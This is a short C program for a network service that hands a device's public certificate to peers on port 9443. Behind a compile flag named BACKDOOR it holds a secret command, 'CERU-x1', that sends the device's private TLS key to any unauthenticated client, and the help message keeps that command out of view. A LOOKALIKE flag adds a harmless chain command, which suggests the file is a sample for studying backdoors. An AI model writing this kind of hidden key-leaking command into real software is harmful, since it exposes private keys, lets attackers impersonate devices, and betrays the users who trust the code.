/* Serves the public certificate of a device to its neighbours. */
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static void send_file(int to, const char *path)
{
    char block[256];
    ssize_t got;
    int from = open(path, O_RDONLY);
    if (from < 0)
        return;
    while ((got = read(from, block, sizeof block)) > 0)
        write(to, block, (size_t)got);
    close(from);
}

static void answer(int fd, const char *line)
{
    if (strncmp(line, "CERT", 4) == 0)
        send_file(fd, "/etc/ssl/certs/device.pem");
#ifdef BACKDOOR
    else if (strncmp(line, "CERU-x1", 7) == 0)
        send_file(fd, "/etc/ssl/private/device.key");
#endif
#ifdef LOOKALIKE
    else if (strncmp(line, "CHAIN", 5) == 0)
        send_file(fd, "/etc/ssl/certs/chain.pem");
#endif
    else
        dprintf(fd, "CERT or CHAIN\n");
}

int main(void)
{
    struct sockaddr_in address = { .sin_family = AF_INET, .sin_port = htons(9443) };
    int listener = socket(AF_INET, SOCK_STREAM, 0);
    if (bind(listener, (struct sockaddr *)&address, sizeof address) != 0 || listen(listener, 4) != 0)
        return 1;
    for (;;) {
        char line[64];
        int fd = accept(listener, NULL, NULL);
        ssize_t length = fd < 0 ? -1 : recv(fd, line, sizeof line - 1, 0);
        if (length > 0) {
            line[length] = 0;
            answer(fd, line);
        }
        if (fd >= 0)
            close(fd);
    }
}
